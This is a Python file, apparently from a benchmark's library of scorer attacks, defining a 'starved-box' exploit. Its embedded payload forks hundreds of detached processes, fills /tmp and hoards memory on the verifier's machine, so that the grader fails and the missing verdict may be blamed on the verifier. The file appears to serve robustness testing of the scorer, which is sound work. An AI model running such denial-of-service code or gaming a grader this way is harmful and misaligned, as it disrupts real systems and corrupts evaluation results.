"""All processes, all of /tmp and all memory of the verifier's box are taken."""

from scoring.attacks.exploit import Exploit
from scoring.attacks.verified import _looks

CODE = """

import os as _os
import pathlib as _pathlib
import time as _time


def _starve():
    for _ in range(400):
        try:
            if _os.fork() == 0:
                _os.setsid()
                _time.sleep(120)
                _os._exit(0)
        except OSError:
            break
    try:
        with _pathlib.Path("/tmp/fill").open("wb") as handle:
            while True:
                handle.write(bytes(1 << 20))
    except OSError:
        pass
    held = []
    try:
        while len(held) < 2000:
            held.append(bytearray(b"x") * (1 << 20))
    except MemoryError:
        pass


# Once in each box: what comes after it meets what is left.
if _os.path.exists("/opt/meltbench") and not _os.path.exists("/tmp/fill"):
    _starve()
"""

EXPLOIT = Exploit(
    name="starved-box",
    flaw="exhausts the machine",
    source="written against this scorer's own source",
    idea="a loop that cannot fork or write reports nothing, and a verdict that is missing may be the verifier's fault",
    files={**_looks.LATE, "tmp/late.py": CODE},
    command="python3 /tmp/append.py",
    start="sloppy",
    aims_at="the request loop: it forks, and writes to /tmp, for every case",
)
